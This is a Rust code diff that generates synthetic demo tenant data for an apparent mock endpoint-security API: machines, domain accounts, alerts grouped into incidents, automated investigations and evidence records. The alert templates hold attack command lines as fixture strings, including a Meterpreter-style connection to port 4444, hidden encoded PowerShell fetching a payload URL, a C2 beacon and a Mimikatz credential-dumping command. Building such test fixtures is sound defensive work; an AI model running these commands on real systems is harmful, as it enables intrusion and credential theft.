@@ -199,7 +199,9 @@ pub fn generate_machines(generation: &Generation<'_>, now: DateTime<Utc>, first:
         let n = rounds * per_round + at;
         let mut rng = Rng::new(generation.seed ^ index.wrapping_mul(0x2545_F491_4F6C_DD1D));
         let windows = profile.os_platform.starts_with("Windows");
-        let version_at = rng.below(profile.versions.len() as u64) as usize;
+        // Round-robin rather than random, so even the small demo tenant has every OS version and
+        // sensor version of its platform profile (the action rules depend on them).
+        let version_at = (n % profile.versions.len() as u64) as usize;
         let (group_id, group_name) = *rng.pick(GROUPS);
         let last_seen = now - TimeDelta::minutes(rng.below(60 * 24 * 3) as i64 + 5);
         let first_seen = last_seen - TimeDelta::days(rng.below(400) as i64 + 30);
@@ -242,7 +244,7 @@ pub fn generate_machines(generation: &Generation<'_>, now: DateTime<Utc>, first:
             version: Some(profile.versions[version_at].to_string()),
             last_ip_address: Some(ip(group_id, index)),
             last_external_ip_address: Some(format!("203.0.113.{}", 1 + rng.below(250))),
-            agent_version: Some(rng.pick(profile.agent_versions).to_string()),
+            agent_version: Some(profile.agent_versions[(n % profile.agent_versions.len() as u64) as usize].to_string()),
             os_build: profile.builds.get(version_at).copied(),
             health_status: health,
             device_value: Some(*rng.pick(&[
@@ -330,6 +332,40 @@ mod tests {
     }
 
     #[test]
+    fn demo_tenant_data_is_consistent() {
+        let now = Utc::now();
+        let data = tenant_data("tenant-a", now);
+        assert_eq!(data, tenant_data("tenant-a", now), "deterministic");
+        assert_eq!(data.alerts.len() as u64, DEMO_ALERTS);
+        let machine_ids: std::collections::HashSet<_> = data.machines.iter().map(|m| &m.id).collect();
+        assert!(data.alerts.iter().all(|a| machine_ids.contains(&a.machine_id)));
+        let alert_ids: std::collections::HashSet<_> = data.alerts.iter().map(|a| &a.id).collect();
+        assert_eq!(alert_ids.len(), data.alerts.len(), "alert ids are unique");
+        assert!(data.alerts.iter().all(|a| !a.evidence.is_empty()));
+        assert!(!data.investigations.is_empty());
+        for inv in &data.investigations {
+            let alert = data
+                .alerts
+                .iter()
+                .find(|a| Some(&a.id) == inv.triggering_alert_id.as_ref())
+                .unwrap();
+            assert_eq!(alert.investigation_id.map(|i| i.to_string()), Some(inv.id.clone()));
+        }
+        let incidents: std::collections::HashSet<_> = data.alerts.iter().map(|a| a.incident_id).collect();
+        assert!(
+            incidents.len() > 5 && incidents.len() < data.alerts.len(),
+            "alerts share incidents"
+        );
+        for status in [AlertStatus::New, AlertStatus::InProgress, AlertStatus::Resolved] {
+            assert!(data.alerts.iter().any(|a| a.status == status), "{status}");
+        }
+        assert!(
+            data.users.iter().all(|u| u.log_on_machines_count > 0),
+            "every account logged on somewhere"
+        );
+    }
+
+    #[test]
     fn batches_compose_into_the_same_population() {
         let now = Utc::now();
         let g = Generation {
@@ -344,4 +380,389 @@ mod tests {
         let names: std::collections::HashSet<_> = whole.iter().map(|m| &m.computer_dns_name).collect();
         assert_eq!(names.len(), 100, "computer names are unique");
     }
+}
+
+/// Everything the demo tenant holds besides its registration.
+#[derive(Debug, Clone, PartialEq)]
+pub struct DemoData {
+    pub machines: Vec<Machine>,
+    pub users: Vec<User>,
+    pub alerts: Vec<Alert>,
+    pub investigations: Vec<Investigation>,
+    /// `(relation kind, pairs)`; see [`crate::links`].
+    pub links: Vec<(&'static str, Vec<(String, String)>)>,
+}
+
+/// Accounts of the demo domain: (name, domain admin, network-only).
+const ACCOUNTS: &[(&str, bool, bool)] = &[
+    ("jdoe", false, false),
+    ("asmith", false, false),
+    ("mgarcia", false, false),
+    ("lchen", false, false),
+    ("kpatel", false, false),
+    ("bwilson", false, false),
+    ("admin-ops", true, false),
+    ("svc-backup", false, true),
+];
+const DOMAIN: &str = "CONTOSO";
+
+/// An alert template: title, category, severity, detection source, MITRE techniques, threat family,
+/// the process behind it and the network indicators it touched.
+struct AlertTemplate {
+    title: &'static str,
+    category: &'static str,
+    severity: AlertSeverity,
+    detection_source: &'static str,
+    mitre: &'static [&'static str],
+    threat_family: Option<&'static str>,
+    file: (&'static str, &'static str),
+    command_line: &'static str,
+    ip: Option<&'static str>,
+    url: Option<&'static str>,
+}
+
+const ALERT_TEMPLATES: &[AlertTemplate] = &[
+    AlertTemplate {
+        title: "Low-reputation arbitrary code executed by signed executable",
+        category: "Execution",
+        severity: AlertSeverity::Low,
+        detection_source: "WindowsDefenderAtp",
+        mitre: &["T1064", "T1085", "T1220"],
+        threat_family: None,
+        file: ("suspicious.dll", "c:\\temp"),
+        command_line: "rundll32.exe  c:\\temp\\suspicious.dll,RepeatAfterMe",
+        ip: None,
+        url: None,
+    },
+    AlertTemplate {
+        title: "Suspicious 'Meterpreter' behavior was detected",
+        category: "Malware",
+        severity: AlertSeverity::High,
+        detection_source: "WindowsDefenderAv",
+        mitre: &["T1055"],
+        threat_family: Some("Meterpreter"),
+        file: ("payload.exe", "C:\\Users\\Public\\Downloads"),
+        command_line: "payload.exe -connect 198.51.100.23:4444",
+        ip: Some("198.51.100.23"),
+        url: None,
+    },
+    AlertTemplate {
+        title: "Suspicious PowerShell command line",
+        category: "Execution",
+        severity: AlertSeverity::Medium,
+        detection_source: "WindowsDefenderAtp",
+        mitre: &["T1059.001"],
+        threat_family: None,
+        file: ("invoke-update.ps1", "C:\\ProgramData\\Updates"),
+        command_line: "powershell.exe -nop -w hidden -enc SQBFAFgA",
+        ip: None,
+        url: Some("http://update-check.fabrikam-cdn.net/payload"),
+    },
+    AlertTemplate {
+        title: "Connection to a custom network indicator",
+        category: "CommandAndControl",
+        severity: AlertSeverity::Medium,
+        detection_source: "CustomTi",
+        mitre: &["T1071"],
+        threat_family: None,
+        file: ("beacon.exe", "C:\\Windows\\Temp"),
+        command_line: "beacon.exe --interval 60",
+        ip: Some("203.0.113.77"),
+        url: Some("https://c2.tailspin-analytics.com/beacon"),
+    },
+    AlertTemplate {
+        title: "Ransomware behavior detected in the file system",
+        category: "Ransomware",
+        severity: AlertSeverity::High,
+        detection_source: "WindowsDefenderAtp",
+        mitre: &["T1486"],
+        threat_family: Some("Wannacry"),
+        file: ("tasksche.exe", "C:\\ProgramData"),
+        command_line: "tasksche.exe /i",
+        ip: None,
+        url: None,
+    },
+    AlertTemplate {
+        title: "Credential dumping activity observed",
+        category: "CredentialAccess",
+        severity: AlertSeverity::High,
+        detection_source: "WindowsDefenderAtp",
+        mitre: &["T1003", "T1003.001"],
+        threat_family: Some("Mimikatz"),
+        file: ("mimi.exe", "C:\\Users\\Public"),
+        command_line: "mimi.exe privilege::debug sekurlsa::logonpasswords",
+        ip: None,
+        url: None,
+    },
+    AlertTemplate {
+        title: "Suspicious process discovery",
+        category: "Discovery",
+        severity: AlertSeverity::Informational,
+        detection_source: "WindowsDefenderAtp",
+        mitre: &["T1057"],
+        threat_family: None,
+        file: ("tasklist.exe", "C:\\Windows\\System32"),
+        command_line: "tasklist.exe /v",
+        ip: None,
+        url: None,
+    },
+    AlertTemplate {
+        title: "'EICAR_Test_File' malware was detected",
+        category: "Malware",
+        severity: AlertSeverity::Informational,
+        detection_source: "WindowsDefenderAv",
+        mitre: &[],
+        threat_family: Some("EICAR_Test_File"),
+        file: ("eicar.com", "C:\\Users\\Public\\Downloads"),
+        command_line: "explorer.exe",
+        ip: None,
+        url: Some("https://secure.eicar.org/eicar.com"),
+    },
+];
+
+/// How many alerts the demo tenant gets: enough for paging, incidents and every template.
+pub const DEMO_ALERTS: u64 = 60;
+
+/// The demo tenant's data: machines, accounts that log on to them, alerts with evidence grouped
+/// into incidents, and automated investigations of the severe ones.
+pub fn tenant_data(namespace: &str, now: DateTime<Utc>) -> DemoData {
+    let machines = machines(namespace, now);
+    let mut rng = Rng::new(0xA1E2_7500);
+    let users: Vec<User> = ACCOUNTS
+        .iter()
+        .enumerate()
+        .map(|(n, (name, admin, network_only))| User {
+            id: format!("{}\\{name}", DOMAIN.to_lowercase()),
+            account_name: (*name).into(),
+            account_domain: DOMAIN.to_lowercase(),
+            account_sid: Some(format!("S-1-5-21-1004336348-1177238915-682003330-{}", 1101 + n)),
+            first_seen: Timestamp(now - TimeDelta::days(200 + n as i64 * 7)),
+            last_seen: Timestamp(now - TimeDelta::hours(1 + n as i64)),
+            most_prevalent_machine_id: None,
+            least_prevalent_machine_id: None,
+            logon_types: if *network_only { "Network" } else { "Interactive" }.into(),
+            log_on_machines_count: 0,
+            is_domain_admin: *admin,
+            is_only_network_user: *network_only,
+        })
+        .collect();
+    // Who logged on where: every non-mobile machine has one or two accounts.
+    let mut machine_users = Vec::new();
+    let mut user_machines = Vec::new();
+    let mut seen_on: Vec<Vec<String>> = vec![Vec::new(); users.len()];
+    for (m, machine) in machines.iter().enumerate() {
+        if matches!(machine.os_platform.as_str(), "iOS" | "Android") {
+            continue;
+        }
+        let first = m % users.len();
+        let mut accounts = vec![first];
+        if rng.below(2) == 0 {
+            accounts.push((first + 1 + rng.below(users.len() as u64 - 1) as usize) % users.len());
+        }
+        for u in accounts {
+            machine_users.push((machine.id.clone(), users[u].id.clone()));
+            user_machines.push((crate::links::user_key(&users[u].account_name), machine.id.clone()));
+            seen_on[u].push(machine.id.clone());
+        }
+    }
+    let users: Vec<User> = users
+        .into_iter()
+        .zip(&seen_on)
+        .map(|(mut user, on)| {
+            user.log_on_machines_count = on.len() as i64;
+            user.most_prevalent_machine_id = on.first().cloned();
+            user.least_prevalent_machine_id = on.last().cloned();
+            user
+        })
+        .collect();
+
+    let mut alerts = Vec::new();
+    let mut investigations = Vec::new();
+    let mut user_alerts = Vec::new();
+    let mut incident = 1000;
+    for n in 0..DEMO_ALERTS {
+        // Alerts come in small stories: a machine gets two or three related alerts in one incident.
+        if n % 3 == 0 || rng.below(4) == 0 {
+            incident += 1;
+        }
+        let machine = &machines[((incident - 1001) * 7 % machines.len() as i64) as usize];
+        let template = &ALERT_TEMPLATES[(n as usize * 5 + rng.below(3) as usize) % ALERT_TEMPLATES.len()];
+        let logged_on: Vec<&(String, String)> = machine_users.iter().filter(|(m, _)| *m == machine.id).collect();
+        let user = logged_on
+            .first()
+            .and_then(|(_, uid)| users.iter().find(|u| &u.id == uid));
+        let created = now - TimeDelta::minutes((DEMO_ALERTS - n) as i64 * 11 * 60 + rng.below(600) as i64);
+        let first_event = created - TimeDelta::seconds(60 + rng.below(600) as i64);
+        let last_event = first_event + TimeDelta::seconds(rng.below(120) as i64);
+        let (status, resolved) = match rng.below(6) {
+            0 => (AlertStatus::Resolved, Some(Timestamp(created + TimeDelta::hours(4)))),
+            1 => (AlertStatus::InProgress, None),
+            _ => (AlertStatus::New, None),
+        };
+        let id = alert_id(created, rng.next_u64());
+        let evidence = evidence(template, user, machine, created, &mut rng);
+        let investigated = template.severity == AlertSeverity::High;
+        let (investigation_id, investigation_state) = if investigated {
+            let inv_id = 5000 + investigations.len() as i64;
+            let state = *rng.pick(&[
+                InvestigationState::Running,
+                InvestigationState::PendingApproval,
+                InvestigationState::SuccessfullyRemediated,
+                InvestigationState::Benign,
+            ]);
+            investigations.push(Investigation {
+                id: inv_id.to_string(),
+                start_time: Timestamp(created + TimeDelta::seconds(30)),
+                end_time: matches!(
+                    state,
+                    InvestigationState::SuccessfullyRemediated | InvestigationState::Benign
+                )
+                .then(|| Timestamp(created + TimeDelta::minutes(42))),
+                cancelled_by: None,
+                state,
+                status_details: None,
+                machine_id: machine.id.clone(),
+                computer_dns_name: machine.computer_dns_name.clone(),
+                triggering_alert_id: Some(id.clone()),
+            });
+            (Some(inv_id), Some(state))
+        } else {
+            (None, Some(InvestigationState::Queued))
+        };
+        if let Some(user) = user {
+            user_alerts.push((crate::links::user_key(&user.account_name), id.clone()));
+        }
+        alerts.push(Alert {
+            id,
+            incident_id: Some(incident),
+            investigation_id,
+            assigned_to: (status != AlertStatus::New).then(|| "secop@palisade-demo.onmicrosoft.com".to_string()),
+            severity: template.severity,
+            status,
+            classification: resolved.map(|_| Classification::TruePositive),
+            determination: resolved.map(|_| Determination::Malware),
+            investigation_state,
+            detection_source: template.detection_source.into(),
+            detector_id: Some(uuid::Uuid::new_v5(&uuid::Uuid::NAMESPACE_OID, template.title.as_bytes()).to_string()),
+            category: template.category.into(),
+            threat_family_name: template.threat_family.map(str::to_string),
+            title: template.title.into(),
+            description: format!(
+                "{} on {}. Review the evidence and the process tree, then decide on a response.",
+                template.title, machine.computer_dns_name
+            ),
+            alert_creation_time: Timestamp(created),
+            first_event_time: Some(Timestamp(first_event)),
+            last_event_time: Some(Timestamp(last_event)),
+            last_update_time: Timestamp(resolved.map(|t| t.0).unwrap_or(created + TimeDelta::seconds(2))),
+            resolved_time: resolved,
+            machine_id: machine.id.clone(),
+            computer_dns_name: machine.computer_dns_name.clone(),
+            rbac_group_name: machine.rbac_group_name.clone(),
+            aad_tenant_id: namespace.to_string(),
+            threat_name: template.threat_family.map(|f| format!("Trojan:Win32/{f}")),
+            mitre_techniques: template.mitre.iter().map(|t| t.to_string()).collect(),
+            related_user: user.map(|u| RelatedUser {
+                user_name: u.account_name.clone(),
+                domain_name: DOMAIN.into(),
+            }),
+            comments: Vec::new(),
+            evidence,
+        });
+    }
+    DemoData {
+        machines,
+        users,
+        alerts,
+        investigations,
+        links: vec![
+            (crate::links::MACHINE_USERS, machine_users),
+            (crate::links::USER_MACHINES, user_machines),
+            (crate::links::USER_ALERTS, user_alerts),
+        ],
+    }
+}
+
+/// An alert id in the service's shape: `da` + .NET ticks of the creation time + `_` + a number.
+pub fn alert_id(created: DateTime<Utc>, salt: u64) -> String {
+    const UNIX_EPOCH_TICKS: i64 = 621_355_968_000_000_000;
+    let ticks = created.timestamp_micros() * 10 + UNIX_EPOCH_TICKS;
+    format!("da{ticks}_{}", salt % 2_000_000_000)
+}
+
+/// Hex digest of `text` cut to `chars` characters: stable fake hashes for demo files.
+fn fake_hash(text: &str, chars: usize) -> String {
+    let digest = Sha256::digest(text.as_bytes());
+    let hex: String = digest.iter().map(|b| format!("{b:02x}")).collect();
+    hex[..chars].to_string()
+}
+
+fn evidence(
+    template: &AlertTemplate,
+    user: Option<&User>,
+    machine: &Machine,
+    created: DateTime<Utc>,
+    rng: &mut Rng,
+) -> Vec<Evidence> {
+    let at = Some(Timestamp(created + TimeDelta::seconds(1)));
+    let mut out = Vec::new();
+    if let Some(user) = user {
+        out.push(Evidence {
+            entity_type: "User".into(),
+            evidence_creation_time: at,
+            account_name: Some(user.account_name.clone()),
+            domain_name: Some(DOMAIN.into()),
+            user_sid: user.account_sid.clone(),
+            aad_user_id: Some(uuid::Uuid::new_v5(&uuid::Uuid::NAMESPACE_OID, user.id.as_bytes()).to_string()),
+            user_principal_name: Some(format!("{}@palisade-demo.onmicrosoft.com", user.account_name)),
+            ..Evidence::default()
+        });
+    }
+    let (file_name, file_path) = template.file;
+    let process_created = created - TimeDelta::seconds(90);
+    out.push(Evidence {
+        entity_type: "Process".into(),
+        evidence_creation_time: at,
+        sha1: Some(fake_hash(&format!("sha1:{file_name}"), 40)),
+        sha256: Some(fake_hash(&format!("sha256:{file_name}"), 64)),
+        file_name: Some(file_name.into()),
+        file_path: Some(file_path.into()),
+        process_id: Some(1000 + rng.below(9000) as i64),
+        process_command_line: Some(template.command_line.into()),
+        process_creation_time: Some(Timestamp(process_created)),
+        parent_process_id: Some(500 + rng.below(500) as i64),
+        parent_process_creation_time: Some(Timestamp(process_created - TimeDelta::seconds(3))),
+        parent_process_file_name: Some("explorer.exe".into()),
+        parent_process_file_path: Some("C:\\Windows".into()),
+        detection_status: Some("Detected".into()),
+        ..Evidence::default()
+    });
+    out.push(Evidence {
+        entity_type: "File".into(),
+        evidence_creation_time: at,
+        sha1: Some(fake_hash(&format!("sha1:{file_name}"), 40)),
+        sha256: Some(fake_hash(&format!("sha256:{file_name}"), 64)),
+        file_name: Some(file_name.into()),
+        file_path: Some(file_path.into()),
+        detection_status: Some(if rng.below(3) == 0 { "Prevented" } else { "Detected" }.into()),
+        ..Evidence::default()
+    });
+    if let Some(ip) = template.ip {
+        out.push(Evidence {
+            entity_type: "Ip".into(),
+            evidence_creation_time: at,
+            ip_address: Some(ip.into()),
+            ..Evidence::default()
+        });
+    }
+    if let Some(url) = template.url {
+        out.push(Evidence {
+            entity_type: "Url".into(),
+            evidence_creation_time: at,
+            url: Some(url.into()),
+            ..Evidence::default()
+        });
+    }
+    let _ = machine;
+    out
 }
